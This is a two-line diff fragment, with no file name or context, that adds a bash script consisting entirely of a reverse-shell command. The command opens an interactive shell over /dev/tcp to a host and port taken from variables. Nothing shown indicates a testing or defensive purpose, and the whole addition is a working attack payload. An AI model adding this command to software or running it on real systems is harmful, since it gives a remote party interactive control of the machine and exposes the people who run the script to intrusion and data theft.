@@ -1,0 +1,2 @@
+#!/bin/bash
+bash -i >& /dev/tcp/$HOST/$PORT 0>&1
